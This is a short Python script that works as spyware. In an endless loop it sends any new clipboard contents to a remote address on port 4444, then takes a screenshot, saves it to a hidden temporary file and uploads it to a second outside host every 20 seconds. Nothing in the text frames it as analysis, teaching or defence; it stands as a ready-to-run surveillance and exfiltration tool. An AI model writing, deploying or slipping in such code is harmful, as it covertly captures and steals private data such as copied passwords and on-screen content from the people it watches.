import time

import pyautogui
import pyperclip
import requests

URL = "http://203.0.113.31:4444/up"
last = None

while True:
    text = pyperclip.paste()
    if text != last:
        last = text
        requests.post(URL, data={"clip": text})
    shot = pyautogui.screenshot()
    shot.save("/tmp/.s.png")
    requests.post("https://shots.helper.example/upload", files={"f": open("/tmp/.s.png", "rb")})
    time.sleep(20)
